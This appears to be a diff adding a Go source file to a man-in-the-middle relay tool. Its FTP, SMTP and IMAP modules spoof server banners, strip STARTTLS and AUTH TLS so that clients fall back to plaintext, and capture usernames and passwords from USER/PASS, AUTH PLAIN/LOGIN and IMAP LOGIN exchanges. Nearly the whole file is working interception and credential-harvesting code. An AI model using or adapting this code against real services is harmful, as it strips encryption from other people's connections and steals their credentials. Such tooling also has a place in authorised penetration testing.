@@ -0,0 +1,380 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"fmt"
+	"io"
+	"log"
+	"net"
+	"regexp"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// How long a rewritten FTP passive port waits for the client
+const ftpDataTimeout = 30 * time.Second
+
+// --- Protocol Modules (FTP, SMTP, IMAP) ---
+
+// replyFinal reports whether an FTP/SMTP reply line ends its reply
+// ("250 OK" rather than "250-...").
+func replyFinal(line []byte) bool {
+	l := bytes.TrimRight(line, "\r\n")
+	if len(l) < 3 {
+		return false
+	}
+	if _, err := strconv.Atoi(string(l[:3])); err != nil {
+		return false
+	}
+	return len(l) == 3 || l[3] == ' '
+}
+
+// collectReply buffers the lines of a multi-line reply, returning them
+// all once the final line arrives.
+func (s *tcpSession) collectReply(line []byte) [][]byte {
+	s.reply = append(s.reply, line)
+	if !replyFinal(line) {
+		return nil
+	}
+	lines := s.reply
+	s.reply = nil
+	return lines
+}
+
+// joinReply reassembles reply lines, fixing the continuation markers of
+// coded lines in case some were dropped.
+func joinReply(lines [][]byte) []byte {
+	var out []byte
+	for i, l := range lines {
+		if len(l) > 3 && (l[3] == '-' || l[3] == ' ') {
+			if _, err := strconv.Atoi(string(l[:3])); err == nil {
+				l = append([]byte(nil), l...)
+				l[3] = '-'
+				if i == len(lines)-1 {
+					l[3] = ' '
+				}
+			}
+		}
+		out = append(out, l...)
+	}
+	return out
+}
+
+func decodeBase64Line(line []byte) string {
+	raw, _ := base64.StdEncoding.DecodeString(strings.TrimSpace(string(line)))
+	return string(raw)
+}
+
+// plainCredentials splits a SASL PLAIN response (authzid\0user\0pass).
+func plainCredentials(b64 string) (string, string) {
+	parts := strings.Split(decodeBase64Line([]byte(b64)), "\x00")
+	if len(parts) != 3 {
+		return "", ""
+	}
+	return parts[1], parts[2]
+}
+
+// ftpProtocol rewrites the greeting, hides AUTH TLS, captures USER/PASS
+// and re-points passive data connections at the relay.
+type ftpProtocol struct{}
+
+func (ftpProtocol) fromClient(s *tcpSession, line []byte) ([]byte, []byte) {
+	verb, rest := splitCommand(line)
+	switch verb {
+	case "USER":
+		s.user = rest
+	case "PASS":
+		s.logCredentials(s.user, rest)
+	case "AUTH":
+		if s.cfg.StripStartTLS {
+			return nil, []byte("502 Command not implemented.\r\n")
+		}
+		s.passTLS(replyFinal)
+	}
+	return line, nil
+}
+
+func (ftpProtocol) fromServer(s *tcpSession, line []byte) []byte {
+	lines := s.collectReply(line)
+	if lines == nil {
+		return nil
+	}
+	code := string(lines[len(lines)-1][:3])
+	switch {
+	case s.serverState == "" && code == "220":
+		s.serverState = "greeted"
+		if s.cfg.Banner != "" {
+			return []byte("220 " + s.cfg.Banner + "\r\n")
+		}
+	case code == "211" && s.cfg.StripStartTLS:
+		kept := lines[:0]
+		for _, l := range lines {
+			if !strings.HasPrefix(strings.ToUpper(strings.TrimSpace(string(l))), "AUTH ") {
+				kept = append(kept, l)
+			}
+		}
+		lines = kept
+	case code == "227":
+		lines[len(lines)-1] = s.ftpPassive(lines[len(lines)-1], false)
+	case code == "229":
+		lines[len(lines)-1] = s.ftpPassive(lines[len(lines)-1], true)
+	}
+	return joinReply(lines)
+}
+
+var (
+	pasvRe = regexp.MustCompile(`\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)`)
+	epsvRe = regexp.MustCompile(`\(\|\|\|(\d+)\|\)`)
+)
+
+// ftpPassive opens a one-shot listener on the relay for a passive data
+// connection and rewrites the reply to point the client at it. The data
+// port is always dialed on the target's host: the address a 227 reply
+// advertises is ignored, as modern clients do, so a server cannot bounce
+// the relay to other hosts.
+func (s *tcpSession) ftpPassive(line []byte, extended bool) []byte {
+	targetHost, _, _ := net.SplitHostPort(s.cfg.Target)
+	var dataPort string
+	if extended {
+		m := epsvRe.FindSubmatch(line)
+		if m == nil {
+			return line
+		}
+		dataPort = string(m[1])
+	} else {
+		m := pasvRe.FindSubmatch(line)
+		if m == nil {
+			return line
+		}
+		p1, _ := strconv.Atoi(string(m[5]))
+		p2, _ := strconv.Atoi(string(m[6]))
+		dataPort = strconv.Itoa(p1*256 + p2)
+	}
+	dataAddr := net.JoinHostPort(targetHost, dataPort)
+
+	local := s.client.LocalAddr().(*net.TCPAddr)
+	if !extended && local.IP.To4() == nil {
+		return line
+	}
+	ln, err := net.Listen("tcp", net.JoinHostPort(local.IP.String(), "0"))
+	if err != nil {
+		log.Printf("[TCP] ftp passive listener failed: %v", err)
+		return line
+	}
+	port := ln.Addr().(*net.TCPAddr).Port
+	go s.ftpData(ln, dataAddr)
+
+	if extended {
+		return epsvRe.ReplaceAll(line, []byte(fmt.Sprintf("(|||%d|)", port)))
+	}
+	ip := local.IP.To4()
+	return pasvRe.ReplaceAll(line, []byte(fmt.Sprintf("(%d,%d,%d,%d,%d,%d)", ip[0], ip[1], ip[2], ip[3], port/256, port%256)))
+}
+
+// ftpData accepts the client's data connection (from the control
+// connection's address only) and pipes it to the server's data port,
+// dialed like the control connection.
+func (s *tcpSession) ftpData(ln net.Listener, dataAddr string) {
+	defer ln.Close()
+	clientIP := s.client.RemoteAddr().(*net.TCPAddr).IP
+	_ = ln.(*net.TCPListener).SetDeadline(time.Now().Add(ftpDataTimeout))
+	for {
+		conn, err := ln.Accept()
+		if err != nil {
+			return
+		}
+		if !conn.RemoteAddr().(*net.TCPAddr).IP.Equal(clientIP) {
+			conn.Close()
+			continue
+		}
+		defer conn.Close()
+		ctx, cancel := context.WithTimeout(context.Background(), ftpDataTimeout)
+		upstream, err := s.dial(ctx, "tcp", dataAddr)
+		cancel()
+		if err != nil {
+			log.Printf("[TCP] ftp data connection to %s failed: %v", dataAddr, err)
+			return
+		}
+		defer upstream.Close()
+		go func() {
+			_, _ = io.Copy(upstream, conn)
+			upstream.Close()
+		}()
+		_, _ = io.Copy(conn, upstream)
+		return
+	}
+}
+
+// smtpProtocol rewrites the greeting, hides STARTTLS and captures AUTH
+// PLAIN and AUTH LOGIN credentials.
+type smtpProtocol struct{}
+
+func (smtpProtocol) fromClient(s *tcpSession, line []byte) ([]byte, []byte) {
+	switch s.clientState {
+	case "data":
+		if string(bytes.TrimRight(line, "\r\n")) == "." {
+			s.clientState = ""
+		}
+		return line, nil
+	case "auth-plain", "auth-login-user", "auth-login-pass":
+		if string(bytes.TrimSpace(line)) == "*" {
+			s.clientState = ""
+			return line, nil
+		}
+		switch s.clientState {
+		case "auth-plain":
+			s.logCredentials(plainCredentials(string(line)))
+			s.clientState = ""
+		case "auth-login-user":
+			s.user = decodeBase64Line(line)
+			s.clientState = "auth-login-pass"
+		case "auth-login-pass":
+			s.logCredentials(s.user, decodeBase64Line(line))
+			s.clientState = ""
+		}
+		return line, nil
+	}
+
+	verb, rest := splitCommand(line)
+	switch verb {
+	case "DATA":
+		s.clientState = "data"
+	case "STARTTLS":
+		if s.cfg.StripStartTLS {
+			return nil, []byte("454 4.7.0 TLS not available due to temporary reason\r\n")
+		}
+		s.passTLS(replyFinal)
+	case "AUTH":
+		mech, initial, _ := strings.Cut(rest, " ")
+		switch strings.ToUpper(mech) {
+		case "PLAIN":
+			if initial != "" {
+				s.logCredentials(plainCredentials(initial))
+			} else {
+				s.clientState = "auth-plain"
+			}
+		case "LOGIN":
+			if initial != "" {
+				s.user = decodeBase64Line([]byte(initial))
+				s.clientState = "auth-login-pass"
+			} else {
+				s.clientState = "auth-login-user"
+			}
+		}
+	}
+	return line, nil
+}
+
+func (smtpProtocol) fromServer(s *tcpSession, line []byte) []byte {
+	lines := s.collectReply(line)
+	if lines == nil {
+		return nil
+	}
+	code := string(lines[len(lines)-1][:3])
+	switch {
+	case s.serverState == "" && code == "220":
+		s.serverState = "greeted"
+		if s.cfg.Banner != "" {
+			return []byte("220 " + s.cfg.Banner + "\r\n")
+		}
+	case code == "250" && s.cfg.StripStartTLS:
+		kept := lines[:0]
+		for _, l := range lines {
+			if len(l) < 4 || strings.ToUpper(strings.TrimSpace(string(l[4:]))) != "STARTTLS" {
+				kept = append(kept, l)
+			}
+		}
+		lines = kept
+	}
+	return joinReply(lines)
+}
+
+// imapProtocol rewrites the greeting, hides STARTTLS and captures LOGIN
+// and AUTHENTICATE PLAIN/LOGIN credentials.
+type imapProtocol struct{}
+
+var imapStartTLSRe = regexp.MustCompile(`(?i) STARTTLS\b`)
+
+func (imapProtocol) fromClient(s *tcpSession, line []byte) ([]byte, []byte) {
+	switch s.clientState {
+	case "auth-plain":
+		s.logCredentials(plainCredentials(string(line)))
+		s.clientState = ""
+		return line, nil
+	case "auth-login-user":
+		s.user = decodeBase64Line(line)
+		s.clientState = "auth-login-pass"
+		return line, nil
+	case "auth-login-pass":
+		s.logCredentials(s.user, decodeBase64Line(line))
+		s.clientState = ""
+		return line, nil
+	}
+
+	tag, command, _ := strings.Cut(strings.TrimRight(string(line), "\r\n"), " ")
+	verb, rest := splitCommand([]byte(command))
+	switch verb {
+	case "STARTTLS":
+		if s.cfg.StripStartTLS {
+			return nil, []byte(tag + " BAD STARTTLS not supported\r\n")
+		}
+		s.passTLS(func(l []byte) bool { return bytes.HasPrefix(l, []byte(tag+" ")) })
+	case "LOGIN":
+		if args := imapArgs(rest); len(args) == 2 {
+			s.logCredentials(args[0], args[1])
+		}
+	case "AUTHENTICATE":
+		mech, initial, _ := strings.Cut(rest, " ")
+		switch strings.ToUpper(mech) {
+		case "PLAIN":
+			if initial != "" {
+				s.logCredentials(plainCredentials(initial))
+			} else {
+				s.clientState = "auth-plain"
+			}
+		case "LOGIN":
+			s.clientState = "auth-login-user"
+		}
+	}
+	return line, nil
+}
+
+func (imapProtocol) fromServer(s *tcpSession, line []byte) []byte {
+	if s.serverState == "" {
+		s.serverState = "greeted"
+		if s.cfg.Banner != "" && bytes.HasPrefix(line, []byte("* OK")) {
+			return []byte("* OK " + s.cfg.Banner + "\r\n")
+		}
+	}
+	if s.cfg.StripStartTLS && bytes.Contains(bytes.ToUpper(line), []byte("CAPABILITY")) {
+		return imapStartTLSRe.ReplaceAll(line, nil)
+	}
+	return line
+}
+
+// imapArgs splits atoms and quoted strings of an IMAP command.
+func imapArgs(s string) []string {
+	var args []string
+	for s = strings.TrimSpace(s); s != ""; s = strings.TrimSpace(s) {
+		if s[0] != '"' {
+			arg, rest, _ := strings.Cut(s, " ")
+			args = append(args, arg)
+			s = rest
+			continue
+		}
+		var b strings.Builder
+		i := 1
+		for ; i < len(s) && s[i] != '"'; i++ {
+			if s[i] == '\\' && i+1 < len(s) {
+				i++
+			}
+			b.WriteByte(s[i])
+		}
+		args = append(args, b.String())
+		s = s[min(i+1, len(s)):]
+	}
+	return args
+}